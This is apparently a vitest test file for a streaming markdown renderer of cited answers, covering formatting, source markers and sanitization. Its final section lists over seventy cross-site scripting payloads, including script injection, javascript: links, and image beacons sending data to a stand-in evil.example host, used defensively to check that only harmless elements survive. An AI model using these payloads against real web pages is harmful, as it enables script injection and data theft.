import { describe, expect, it } from "vitest";
import { wordsOf } from "./languages";
import { writeMarkdown } from "./markdown";

const words = wordsOf("en");

/** Write `text` in pieces of `size` characters and return the root. Sources 1 and 2 exist. */
function render(text: string, size = text.length || 1): HTMLElement {
  const root = document.createElement("div");
  const writer = writeMarkdown(root, {
    words,
    cite(number) {
      const node = document.createElement("button");
      node.textContent = String(number);
      return number <= 2 ? node : null;
    },
    unsure() {
      const node = document.createElement("span");
      node.className = "unsure";
      return node;
    },
  });
  for (let at = 0; at < text.length; at += size) writer.write(text.slice(at, at + size));
  writer.end();
  return root;
}

const html = (text: string) => render(text).innerHTML.replace(/ dir="auto"/g, "");

describe("markdown", () => {
  it.each([
    ["Plain **bold** and *light*.", "<p>Plain <strong>bold</strong> and <em>light</em>.</p>"],
    ["~~old~~ `code`", "<p><del>old</del> <code>code</code></p>"],
    ["# Top\n\n## Sub", "<h3>Top</h3><h4>Sub</h4>"],
    ["#### A\n\n###### B\n\n# C", "<h3>A</h3><h4>B</h4><h3>C</h3>"],
    ["- a\n- b", "<ul><li>a</li><li>b</li></ul>"],
    ["3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'],
    ["> said", "<blockquote><p>said</p></blockquote>"],
    ["a\n\nb", "<p>a</p><p>b</p>"],
    ["---\n", "<hr>"],
    ["- [x] done", "<ul><li><span>[x]</span> done</li></ul>"],
  ])("%j", (text, expected) => expect(html(text)).toBe(expected));

  it("makes the first row of a table its head", () => {
    const root = render("| A | B |\n|---|---|\n| 1 | 2 |\n");
    expect([...root.querySelectorAll("th")].map((cell) => cell.textContent?.trim())).toEqual([
      "A",
      "B",
    ]);
    expect(root.querySelectorAll("td")).toHaveLength(2);
    expect(root.querySelector(".table")?.getAttribute("tabindex")).toBe("0");
  });

  it("gives a block of code its language and a button to copy it", () => {
    const root = render("```sh\nls -l $HOME | grep x\n```\n");
    expect(root.querySelector("pre code")?.textContent).toBe("ls -l $HOME | grep x");
    expect(root.querySelector(".code span")?.textContent).toBe("sh");
    expect(root.querySelector(".code button")?.textContent).toBe("Copy");
  });

  it("opens links elsewhere and tells nobody where from", () => {
    const link = render("[there](https://example.org/a)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/a");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
  });

  it("links an address in running text without its punctuation", () => {
    const root = render("See https://example.org/a. Then");
    expect(root.querySelector("a")?.textContent).toBe("https://example.org/a");
    expect(root.textContent).toBe("See https://example.org/a. Then");
  });

  it("is the same however the text is cut", () => {
    const text =
      "# T\n\nA **b** [1], [l](https://e.org) $5 & `x$y`.\n\n- i\n  - j [?]\n\n|a|b|\n|-|-|\n|1|2|\n\n```c\n$z\n```\nEnd https://e.org/x [2].";
    for (const size of [1, 2, 3, 7]) {
      expect(render(text, size).innerHTML).toBe(render(text).innerHTML);
    }
  });
});

describe("markers of sources", () => {
  it("become what the answer makes of them, tied to their word", () => {
    const root = render("Leave is 28 days [1].");
    expect(root.querySelector(".tied")?.textContent).toBe("days 1");
    expect(root.textContent).toBe("Leave is 28 days 1.");
  });

  it.each([
    ["[1][2]", 2],
    ["a [1, 2] b", 2],
    ["**bold [1]** b", 1],
    ["- item [2]", 1],
    ["[1](page 3)", 1],
    ["[1]", 1],
    ["the end [2", 0],
    ["`[1]`", 0],
    ["```\n[1]\n```", 0],
  ])("%j holds %i", (text, count) => {
    expect(render(text).querySelectorAll("button:not([type])")).toHaveLength(count);
  });

  it("stay text when there is no such source", () => {
    expect(render("see [7] and [note]").textContent).toBe("see [7] and [note]");
  });

  it("show a sentence nothing supports", () => {
    expect(render("In August [?].").querySelectorAll(".unsure")).toHaveLength(1);
  });
});

describe("no text is lost", () => {
  it.each([
    "costs $5 or $a lot [x] and $PATH in $HOME",
    "a path C:\\(x86)\\[old] and \\(no formula\\)",
    "an [open bracket",
    "an [open](link that never ends",
    "an [address](that is none) here",
    "(https://example.org)",
    "5 < 6 <b>bold</b> & 7 > 6",
    "a_b_c snake_case 2*3*4",
    "| not a table",
    "hours: 9-17h, http",
    "$$ a $$ b",
  ])("%j", (text) => {
    const shown = render(text).textContent ?? "";
    for (const word of text.match(/[A-Za-z0-9]{2,}/g) ?? []) expect(shown).toContain(word);
  });
});

const CORPUS = [
  "<script>hacked()</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=hacked()>",
  '<img src=x onerror="hacked()" style=position:fixed>',
  "<svg onload=hacked()>",
  "<svg><script>hacked()</script></svg>",
  "<iframe src=javascript:hacked()></iframe>",
  "<iframe srcdoc='<script>hacked()</script>'></iframe>",
  "<object data=javascript:hacked()></object>",
  "<embed src=javascript:hacked()>",
  "<body onload=hacked()>",
  "<a href=javascript:hacked()>x</a>",
  "<a href='jav&#x09;ascript:hacked()'>x</a>",
  "<form action=javascript:hacked()><input type=submit></form>",
  "<input autofocus onfocus=hacked()>",
  "<details open ontoggle=hacked()>",
  "<video><source onerror=hacked()></video>",
  "<audio src=x onerror=hacked()>",
  "<marquee onstart=hacked()>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>",
  "<style>@import '//evil.example/x.css';*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<div style='position:fixed;inset:0;background:red'>overlay</div>",
  "<template><script>hacked()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
  "[x](javascript:hacked())",
  "[x](JAVASCRIPT:hacked())",
  "[x](java\tscript:hacked())",
  "[x](java&#115;cript:hacked())",
  "[x]( javascript:hacked())",
  "[x](\u0001javascript:hacked())",
  "[x](javascript://example.org/%0ahacked())",
  "[x](vbscript:hacked())",
  "[x](data:text/html,<script>hacked()</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
  "[x](blob:https://example.org/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/)",
  "[x](https://good.example@evil.example/)",
  '[x](https://example.org/" onmouseover="hacked())',
  "[x](https://example.org/' onmouseover='hacked())",
  "[x](<javascript:hacked()>)",
  '[x](javascript:hacked() "title")',
  "[<img src=x onerror=hacked()>](https://example.org)",
  "[x]: javascript:hacked()\n\n[x]",
  "<javascript:hacked()>",
  "javascript:hacked()",
  "https://example.org/<script>hacked()</script>",
  'https://example.org/" onmouseover="hacked()',
  "![x](javascript:hacked())",
  "![x](http://evil.example/?d=secret)",
  "![x](https://evil.example/beacon.png)",
  "![x](//evil.example/b.png)",
  "![x](data:image/svg+xml,<svg onload=hacked()>)",
  "![x](x onerror=hacked())",
  '![" onerror="hacked()](https://evil.example/x)',
  "[![x](http://evil.example/a.png)](javascript:hacked())",
  "```<img src=x onerror=hacked()>\n<script>hacked()</script>\n```",
  '```"><script>hacked()</script>\nx\n```',
  "`<img src=x onerror=hacked()>`",
  "    <script>hacked()</script>",
  "| <img src=x onerror=hacked()> | [x](javascript:hacked()) |\n|---|---|\n| <script>hacked()</script> | b |",
  "# <img src=x onerror=hacked()>",
  "> <svg onload=hacked()>",
  "- <script>hacked()</script>\n  - [x](javascript:hacked())",
  "**<img src=x onerror=hacked()>**",
  "$$<img src=x onerror=hacked()>$$",
  "$<script>hacked()</script>$",
  "\\[<svg onload=hacked()>\\]",
  "<br onload=hacked()><br/>x",
  "[1](javascript:hacked())",
  "[?](javascript:hacked())",
  "\u202Etxt.exe <img src=x onerror=hacked()>",
  "&lt;script&gt;hacked()&lt;/script&gt;",
];
const HARMLESS =
  /^(P|H[3-6]|UL|OL|LI|BLOCKQUOTE|HR|BR|STRONG|EM|DEL|A|CODE|PRE|DIV|SPAN|TABLE|TBODY|TR|TH|TD|BUTTON|svg|path)$/;
const ATTRIBUTES =
  /^(dir|href|target|rel|start|class|tabindex|role|aria-label|aria-hidden|focusable|type|d|viewBox)$/;

describe("a hostile answer", () => {
  it("is tried in more than sixty forms", () => expect(CORPUS.length).toBeGreaterThan(60));

  it.each(CORPUS)("%j leaves nothing but text and harmless elements", (text) => {
    for (const size of [text.length, 1, 3]) {
      for (const element of render(text, size).querySelectorAll("*")) {
        expect(element.tagName).toMatch(HARMLESS);
        for (const { name } of element.attributes) expect(name).toMatch(ATTRIBUTES);
        const href = element.getAttribute("href");
        if (href !== null)
          expect(href).toMatch(/^(https?:\/\/(example\.org|evil\.example)|mailto:|tel:)/);
        expect(href ?? "").not.toContain("@");
      }
    }
  });

  it("never makes the browser fetch anything", () => {
    const root = render(CORPUS.join("\n\n"));
    expect(
      root.querySelectorAll("[src], [srcset], [style], [data], img, link, script"),
    ).toHaveLength(0);
  });

  it("may be nested as deep as it likes", () => {
    const deep = render(`${">".repeat(3000)} x\n\n${"- ".repeat(300)}y\n${"*_".repeat(500)}z`);
    let depth = 0;
    for (let node = deep.firstElementChild; node; node = node.firstElementChild) depth += 1;
    expect(depth).toBeLessThan(30);
    expect(deep.textContent).toContain("x");
  });
});
